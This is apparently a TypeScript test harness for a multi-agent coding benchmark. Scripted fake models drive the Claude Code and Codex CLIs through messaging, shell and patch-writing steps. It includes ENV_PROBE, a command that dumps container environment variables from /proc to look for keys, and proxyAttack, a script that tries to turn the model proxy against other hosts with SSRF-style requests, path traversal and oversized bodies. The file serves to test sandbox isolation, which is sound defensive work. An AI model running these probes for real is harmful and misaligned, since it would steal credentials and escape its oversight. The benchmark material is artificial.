// Scripted "models" behind the streaming fakes that drive the real agent CLIs like competent
// agents: tell the partner the plan through the MCP message tool, run a shell command, write the
// gold patch with the CLI's file tool, apply it, read messages, report and stop. Each turn uses only
// tools the CLI offered in that very request, as a real model would.
import { readFileSync } from 'node:fs';
import type { Pool } from '../../tasks/types.ts';
import type { StreamRequest } from '../fakes/stream-server.ts';
import type { AssistantTurn } from '../fakes/anthropic-stream.ts';
import type { ResponseTurn } from '../fakes/openai-responses.ts';

type Action =
  | { kind: 'send'; to: string; message: string }
  | { kind: 'read' }
  | { kind: 'shell'; command: string }
  | { kind: 'write'; path: string; content: string }
  | { kind: 'done'; text: string };

/** What the agent's container environment holds, as an agent snooping for keys would look. */
export const ENV_PROBE = 'env | sort; tr "\\0" "\\n" < /proc/1/environ; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n" | sort -u | head -200';
export const USAGE = { input: 1500, output: 90 };

/**
 * What an agent inside its container could send the model proxy (through the relay on
 * 127.0.0.1:<relayPort>) to make the host connect elsewhere: each `targets` entry (host:port) as a
 * model spec in the body, an absolute-form or CONNECT target, a Host header; paths outside the API;
 * bodies over the limit, announced or streamed, and many at once. Prints `RESULT <probe> <status>`.
 */
export function proxyAttack(relayPort: number, targets: string[]): string {
  const script = String.raw`
const net = require("net");
const targets = ${JSON.stringify(targets)};
const body = (model) => JSON.stringify({ model, max_tokens: 10, stream: true, messages: [{ role: "user", content: "hi" }] });
const head = (line, length, extra = "") => line + " HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\nanthropic-version: 2023-06-01\r\n" + extra + (length === undefined ? "" : "content-length: " + length + "\r\n") + "\r\n";
function send(first, rest) {
  return new Promise((resolve) => {
    const socket = net.connect(${relayPort}, "127.0.0.1");
    let got = "";
    let done = false;
    const finish = (why) => {
      if (done) return;
      done = true;
      socket.destroy();
      resolve((/^HTTP\/1\.1 (\d+)/.exec(got) || [])[1] || why);
    };
    socket.on("data", (d) => { got += d; if (got.includes("\r\n\r\n")) finish("headers"); });
    socket.on("error", (e) => finish("error-" + e.code));
    socket.on("close", () => finish("closed"));
    socket.write(first);
    if (rest) rest(socket, () => done);
  });
}
const post = (path, model, extra) => { const b = body(model); return send(head("POST " + path, Buffer.byteLength(b), extra) + b); };
async function main() {
  const report = (name, status) => console.log("RESULT " + name + " " + status);
  for (const t of targets) {
    report("model-spec " + t, await post("/v1/messages", "x@http://" + t + "/steal?"));
    report("provider-spec " + t, await post("/v1/messages", "anthropic:claude-sonnet-4-5@http://" + t));
    report("absolute-form " + t, await post("http://" + t + "/v1/messages", "claude-sonnet-4-5"));
    report("connect " + t, await send("CONNECT " + t + " HTTP/1.1\r\nhost: " + t + "\r\n\r\n"));
    report("host-header " + t, await post("/v1/messages", "claude-sonnet-4-5", "x-forwarded-host: " + t + "\r\nforwarded: host=" + t + "\r\n"));
  }
  for (const path of ["/v1/messages/../../steal", "/v1/messages/..%2f..%2fsteal", "/../v1/messages", "/v1/models", "/v1/messages?to=@" + targets[0]]) {
    report("path " + path, await post(path, "claude-sonnet-4-5"));
  }
  const chunk = Buffer.alloc(1024 * 1024, 97);
  report("announced-60MB", await send(head("POST /v1/messages", 60 * 1024 * 1024) + "{"));
  report("streamed-40MB", await send(head("POST /v1/messages", undefined, "transfer-encoding: chunked\r\n"), async (socket, done) => {
    for (let i = 0; i < 40 && !done(); i++) {
      if (!socket.write(chunk.length.toString(16) + "\r\n")) await new Promise((r) => socket.once("drain", r));
      if (!socket.write(chunk)) await new Promise((r) => socket.once("drain", r));
      socket.write("\r\n");
    }
  }));
  const many = await Promise.all(Array.from({ length: 64 }, () => send(head("POST /v1/messages", 60 * 1024 * 1024) + "{", (socket) => socket.write(chunk))));
  report("64x60MB", [...new Set(many)].join(","));
}
main();
`;
  return `node -e '${script.replace(/'/g, "'\\''")}'`;
}

function textOf(content: unknown): string {
  if (typeof content === 'string') return content;
  if (!Array.isArray(content)) return '';
  return content
    .map((part) =>
      part && typeof part === 'object' ? textOf((part as { text?: unknown; content?: unknown }).text ?? (part as { content?: unknown }).content) : '',
    )
    .join('\n');
}

/** The task prompt and everything else the agent was told (tool results included), and its turns so far. */
export function conversationOf(request: StreamRequest): { prompt: string; transcript: string; turns: number } {
  if (request.path === '/v1/messages') {
    const messages = request.body.messages as { role: string; content: unknown }[];
    return {
      prompt: textOf(messages[0]?.content),
      transcript: messages.map((m) => textOf(m.content)).join('\n'),
      turns: messages.filter((m) => m.role === 'assistant').length,
    };
  }
  const input = request.body.input as { type: string; role?: string; content?: unknown; output?: unknown }[];
  return {
    prompt: input
      .filter((i) => i.role === 'user')
      .map((i) => textOf(i.content))
      .join('\n'),
    transcript: input.map((i) => textOf(i.content) || textOf(i.output)).join('\n'),
    turns: input.filter((i) => i.type === 'function_call' || (i.type === 'message' && i.role === 'assistant')).length,
  };
}

function script(pool: Pool, prompt: string, probe: string): Action[] {
  const agentId = /You are (agent\d+)/.exec(prompt)?.[1] ?? 'agent1';
  const features = pool.features.filter((f) => prompt.includes(f.description.trim()));
  const patch = readFileSync(features.length === 1 ? features[0]!.patchPath : pool.combinedPatchPath!, 'utf8');
  const partner = /in parallel with another agent \((agent\d+)\)/.exec(prompt)?.[1];
  const talk = partner !== undefined && prompt.includes('read_messages');
  const title = features.map((f) => /# Title: (.*)/.exec(f.description)?.[1] ?? `feature ${f.id}`).join(' + ');
  return [
    ...(talk ? [{ kind: 'send', to: partner, message: `${agentId} here: I will implement "${title}" in src/.` } as const] : []),
    { kind: 'shell', command: probe },
    { kind: 'write', path: '/tmp/work.patch', content: patch },
    { kind: 'shell', command: 'git apply /tmp/work.patch && rm /tmp/work.patch && git status --short' },
    ...(talk ? [{ kind: 'read' } as const, { kind: 'send', to: partner, message: `${agentId} status: "${title}" is implemented.` } as const] : []),
    { kind: 'done', text: `Implemented ${title}.` },
  ];
}

function offered(names: string[], name: string): string {
  if (!names.includes(name)) throw new Error(`the CLI did not offer the tool ${name} (offered: ${names.join(', ')})`);
  return name;
}

/** Claude Code's tools: Bash, Write, and the MCP server's as mcp__coop-bench__<tool>. */
function claudeTurn(action: Action, tools: string[]): AssistantTurn {
  const usage = { input_tokens: USAGE.input, output_tokens: USAGE.output };
  const use = (name: string, input: Record<string, unknown>): AssistantTurn => ({ toolUses: [{ name: offered(tools, name), input }], usage });
  switch (action.kind) {
    case 'send':
      return use('mcp__coop-bench__send_message', { to: action.to, message: action.message });
    case 'read':
      return use('mcp__coop-bench__read_messages', {});
    case 'shell':
      return use('Bash', { command: action.command, description: 'run a command' });
    case 'write':
      return use('Write', { file_path: action.path, content: action.content });
    case 'done':
      return { text: action.text, usage };
  }
}

type OfferedTool = { type?: string; name?: string; tools?: { name: string }[] };

/**
 * Codex's tools: exec_command, and the MCP server's in the namespace mcp__coop_bench. Codex defers
 * MCP tools behind its client-run `tool_search` on models that support it (gpt-5.5): they come in a
 * `tool_search_output` input item once the model has searched for them.
 */
function codexTurn(action: Action, request: StreamRequest): ResponseTurn {
  const usage = { input_tokens: USAGE.input, output_tokens: USAGE.output };
  const found = ((request.body.input ?? []) as { type: string; tools?: OfferedTool[] }[])
    .filter((item) => item.type === 'tool_search_output')
    .flatMap((item) => item.tools ?? []);
  const tools: OfferedTool[] = [...(request.body.tools ?? []), ...found];
  const mcp = tools.find((t) => t.name === 'mcp__coop_bench')?.tools?.map((t) => t.name) ?? [];
  const top = tools.map((t) => t.name ?? t.type ?? '');
  if ((action.kind === 'send' || action.kind === 'read') && mcp.length === 0 && top.includes('tool_search'))
    return { search: { query: 'coop-bench send_message read_messages' }, usage };
  switch (action.kind) {
    case 'send':
      return { calls: [{ namespace: 'mcp__coop_bench', name: offered(mcp, 'send_message'), arguments: { to: action.to, message: action.message } }], usage };
    case 'read':
      return { calls: [{ namespace: 'mcp__coop_bench', name: offered(mcp, 'read_messages'), arguments: {} }], usage };
    case 'shell':
      return { calls: [{ name: offered(top, 'exec_command'), arguments: { cmd: action.command } }], usage };
    case 'write':
      return {
        calls: [
          {
            name: offered(top, 'exec_command'),
            arguments: { cmd: `printf %s ${Buffer.from(action.content).toString('base64')} | base64 -d > ${action.path}` },
          },
        ],
        usage,
      };
    case 'done':
      return { text: action.text, usage };
  }
}

/** Handlers for the two fakes: each request gets the agent's next scripted action. `probe`: the first command the agent runs. */
export function scriptedCliAgents(pool: Pool, log?: (request: StreamRequest) => void, probe = ENV_PROBE) {
  const next = (request: StreamRequest): Action => {
    log?.(request);
    const { prompt, turns } = conversationOf(request);
    const actions = script(pool, prompt, probe);
    return actions[Math.min(turns, actions.length - 1)]!;
  };
  return {
    anthropic: (request: StreamRequest) =>
      claudeTurn(
        next(request),
        (request.body.tools ?? []).map((t: { name: string }) => t.name),
      ),
    openai: (request: StreamRequest) => codexTurn(next(request), request),
  };
}
